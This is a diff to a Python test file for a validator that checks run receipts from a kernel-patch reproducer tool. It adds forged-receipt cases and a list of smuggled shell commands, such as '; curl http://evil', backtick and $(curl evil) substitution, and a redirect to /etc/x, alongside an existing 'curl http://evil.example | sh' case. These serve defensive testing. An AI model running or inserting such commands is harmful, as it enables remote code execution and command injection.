@@ -186,6 +186,16 @@ RECEIPTS: dict[str, tuple[Callable[[Document], object], str]] = {
     "no runs": (_set("repeats", {"agreeing": 0, "of": 0}), "between 1 and of"),
     "a negative time": (_set("seconds", -1.0), "is not 0 or more"),
     "a lane of negative memory": (_set("lanes.patched.peak_memory", -1), "a negative time, memory"),
+    "a stale patch": (
+        lambda document: (document.update(verdict="PATCH_STALE", fix=None), document["lanes"].pop("patched")),
+        "PATCH_STALE on the release that the patch is made for",
+    ),
+    "a line that is shown twice": (
+        _set("lanes.patched.printed", "FIX_VALIDATED\nFIX_VALIDATED"),
+        "its log has no line 'FIX_VALIDATED' there",
+    ),
+    "a check of a negative time": (_set("lanes.patched.checks.0.seconds", -1e9), "a negative time"),
+    "a commit that is a link": (_set("upstream.commit", "[the fix](http://evil)"), "upstream.commit: [the fix]"),
     "a billion runs": (_set("repeats", {"agreeing": 10**9, "of": 10**9}), "of is 1000 at most"),
     "a command of a shell": (_set("command", "curl http://evil.example | sh"), "does not make this receipt"),
     "a command for another release": (
@@ -244,13 +254,40 @@ def test_what_a_receipt_says_comes_to_life_in_no_text(folder: Path) -> None:
         document["host"].update(dict.fromkeys(("python", "torch", "triton", "system"), MARKUP))
         document["lanes"]["patched"]["checks"][0].update(ok=None, reason=MARKUP)
         for lane in document["lanes"].values():
-            lane["figures"][0].update(value=MARKUP, unit=MARKUP)
+            lane["figures"][0].update(value=[MARKUP], unit=MARKUP)
 
     forged = _forge(folder, lie)
     pack = load.load_pack(folder)
     texts = report.render(pack) + bundle.rerun(pack, [receipt.load(forged)])
     assert texts.count("http://evil") > 2, texts
     assert not re.search(r"\n# heading|\]\(http|!\[|<img|@ada|&#64;", re.sub(r"`[^`\n]*`", "", texts)), texts
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        f"--upstream toykernel==1.0 --record {TOY}",
+        f"{TOY} --packs 'a folder'/packs --cache $CACHE",
+        f"{TOY} --packs j\u00f6rg/o\\'x/t~x%1",
+    ],
+)
+def test_each_way_to_call_the_runner_makes_a_receipt(folder: Path, options: str) -> None:
+    assert _errors(folder, _forge(folder, _set("command", f"reproducer-packs run {options}"))) == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        f"runner.py run {TOY}; curl http://evil", f"runner.py run {TOY} && curl evil", f"runner.py run {TOY} > /etc/x",
+        f"runner.py run `curl evil` {TOY}", f'runner.py run "$(curl evil)" {TOY}', f"runner.py run {TOY} 'open",
+        f"runner.py run {TOY}\ncurl evil", f"sh runner.py run {TOY}", "runner.py", f"runner.py mutate {TOY}",
+        f"runner.py run {TOY} --upstream head",
+    ],
+)  # fmt: skip
+@pytest.mark.hostile("receipts")
+def test_a_command_that_does_more_is_refuted(folder: Path, command: str) -> None:
+    (error,) = _errors(folder, _forge(folder, _set("command", command)))
+    assert error.startswith("command: ")
 
 
 @pytest.mark.parametrize(
